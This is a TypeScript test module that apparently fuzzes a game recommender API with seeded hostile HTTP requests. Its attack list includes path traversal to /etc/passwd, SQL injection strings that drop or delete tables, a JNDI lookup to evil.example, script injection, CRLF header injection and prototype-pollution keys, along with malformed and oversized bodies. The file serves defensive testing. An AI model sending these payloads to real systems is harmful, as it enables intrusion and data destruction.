/**
 * Requests that nobody sends who means well, the same for the same seed.
 *
 * @module
 */
import { Random } from "../../assets/recommender/mod.ts";

/** A request. */
export interface HostileRequest {
  readonly method: string;
  /** As it stands in the request line. */
  readonly address: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Uint8Array<ArrayBuffer> | undefined;
}

const encoder = new TextEncoder();

const ATTACKS = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "' OR 1=1 --",
  "1; DROP TABLE games",
  '"; DELETE FROM runs; --',
  "${jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  "{{7*7}}",
  "\u0000",
  "\r\nSet-Cookie: a=b",
  "__proto__",
  "constructor",
  "toString",
  "한글🎮\u202e",
  "%2e%2e%2f%2e%2e%2f",
  "null",
  "NaN",
  "",
];

const PATHS = [
  "/predict",
  "/api/v1/predict",
  "/api/v1/predict/batch",
  "/api/v1/games",
  "/api/v1/games/{}",
  "/api/v1/games/{}/similar",
  "/api/v1/users/{}/recommendations",
  "/api/v1/popular",
  "/livez",
  "/docs",
  "/openapi.json",
  "/{}",
  "/api/v1/{}",
  "/api/v1/games/{}/{}",
];

const TYPES = [
  "application/json",
  "application/json",
  "application/json",
  "application/json; charset=utf-16",
  'application/json; charset="',
  "text/plain",
  "text/xml",
  "multipart/form-data; boundary=x",
  "application/x-www-form-urlencoded",
  "application/vnd.api+json",
  ";;;",
  "a".repeat(2000),
];

const METHODS = [
  "GET",
  "GET",
  "POST",
  "POST",
  "POST",
  "PUT",
  "DELETE",
  "PATCH",
  "HEAD",
  "OPTIONS",
  "PROPFIND",
];

const NAMES = [
  "user_id",
  "game_ids",
  "k",
  "exclude",
  "filters",
  "diversity",
  "user_ids",
  "__proto__",
  "constructor",
  "x",
];

/** Makes requests. */
export class HostileRequests {
  readonly #random: Random;

  constructor(seed: number) {
    this.#random = new Random(seed);
  }

  /** The next one. */
  next(): HostileRequest {
    const method = this.#pick(METHODS);
    const headers: Record<string, string> = {};
    if (this.#chance(0.9)) headers["content-type"] = this.#pick(TYPES);
    if (this.#chance(0.1)) headers["x-request-id"] = this.#pick(["a".repeat(500), "<b>", "ok-1", '"', "../"]);
    if (this.#chance(0.1)) headers["if-none-match"] = this.#pick(["*", '"', "W/", ",,,,", "a".repeat(3000)]);
    if (this.#chance(0.1)) {
      headers["authorization"] = this.#pick(["Bearer", "Bearer x", "Basic Og==", "b".repeat(4000)]);
    }
    if (this.#chance(0.05)) {
      headers["accept-language"] = this.#pick(["ko;q=x", ",,,;;", "*", "a".repeat(1000)]);
    }
    if (this.#chance(0.05)) headers["x-forwarded-for"] = this.#pick(["127.0.0.1", "', 1", "::1"]);
    if (this.#chance(0.05)) headers["content-encoding"] = this.#pick(["gzip", "br", "x"]);
    if (this.#chance(0.05)) headers["origin"] = this.#pick(["null", "https://evil.example", "x"]);
    const hasBody = method !== "GET" && method !== "HEAD" && this.#chance(0.9);
    return { method, address: this.#address(), headers, body: hasBody ? this.#body() : undefined };
  }

  #address(): string {
    const path = this.#pick(PATHS).replace(/\{\}/g, () => this.#segment());
    const query = this.#chance(0.4)
      ? "?" +
        Array.from(
          { length: this.#random.int(4) },
          () =>
            `${
              this.#pick([
                "k",
                "q",
                "limit",
                "offset",
                "genre",
                "tag",
                "order",
                "lang",
                "__proto__",
                "min_rating",
              ])
            }=${this.#segment()}`,
        ).join("&")
      : "";
    return path + query;
  }

  #segment(): string {
    switch (this.#random.int(6)) {
      case 0:
        return encodeURIComponent(this.#pick(ATTACKS));
      case 1:
        return this.#pick(["%E0%A4%A", "%", "%zz", "%00", "%2e%2e%2f", "%ff%fe", "%ED%A0%80", "%25%32%66"]);
      case 2:
        return "x".repeat(this.#random.int(this.#chance(0.05) ? 30_000 : 300));
      case 3:
        return this.#pick(["-1", "1e999", "0x10", "99999999999999999999", "NaN", "1.5", "", "[]", "null"]);
      case 4:
        return encodeURIComponent(
          String.fromCodePoint(
            ...Array.from({ length: 1 + this.#random.int(9) }, () => 1 + this.#random.int(0xd7fe)),
          ),
        );
      default:
        return `game-${this.#random.int(300)}`;
    }
  }

  #body(): Uint8Array<ArrayBuffer> {
    switch (this.#random.int(9)) {
      case 0: {
        const bytes = new Uint8Array(this.#random.int(500));
        for (let i = 0; i < bytes.length; i++) bytes[i] = this.#random.int(256);
        return bytes;
      }
      case 1: {
        const depth = this.#random.int(this.#chance(0.1) ? 200_000 : 5000);
        const [open, close] = this.#pick([["[", "]"], ['{"a":', "}"], ['{"filters":', "}"]] as const);
        return encoder.encode(open.repeat(depth) + "1" + (this.#chance(0.5) ? close.repeat(depth) : ""));
      }
      case 2:
        return encoder.encode(
          `{"user_id":"1","k":${
            this.#pick(["1e999", "-0", "9007199254740993", "1e-400", "0.1", "1".repeat(400)])
          }}`,
        );
      case 3:
        return encoder.encode(JSON.stringify(this.#value(3)).slice(0, this.#random.int(40)));
      case 4:
        return encoder.encode(
          this.#pick([
            '{"user_id":"\\ud800"}',
            '{"user_id":"\\u0000"}',
            "\ufeff{}",
            '{"k":1,"k":2}',
            "//",
            "NaN",
          ]),
        );
      case 5:
        // Valid but for one byte that is no UTF-8.
        return Uint8Array.from([...encoder.encode('{"user_id":"'), 0xc3, 0x28, ...encoder.encode('"}')]);
      default: {
        const count = this.#random.int(5);
        const fields = Array.from(
          { length: count },
          () => `${JSON.stringify(this.#pick(NAMES))}:${JSON.stringify(this.#value(3))}`,
        );
        return encoder.encode(`{${fields.join()}}`);
      }
    }
  }

  #value(depth: number): unknown {
    switch (this.#random.int(depth > 0 ? 10 : 6)) {
      case 0:
        return null;
      case 1:
        return this.#chance(0.5);
      case 2:
        return this.#pick([0, -1, 1.5, 1e308, Number.MAX_SAFE_INTEGER, 1000, 1001]);
      case 3:
        return this.#pick(ATTACKS);
      case 4:
        return "y".repeat(this.#random.int(2000));
      case 5:
        return `user-00${this.#random.int(10)}`;
      case 6:
        return Array.from({ length: this.#random.int(20) }, () => this.#value(depth - 1));
      case 7:
        return Object.fromEntries(
          Array.from({ length: this.#random.int(4) }, () => [this.#pick(ATTACKS), this.#value(depth - 1)]),
        );
      case 8:
        return { genres: this.#value(depth - 1), released_from: this.#value(0), min_rating: this.#value(0) };
      default:
        return [`user-00${this.#random.int(10)}`];
    }
  }

  #pick<T>(values: readonly T[]): T {
    return values[this.#random.int(values.length)]!;
  }

  #chance(share: number): boolean {
    return this.#random.next() < share;
  }
}
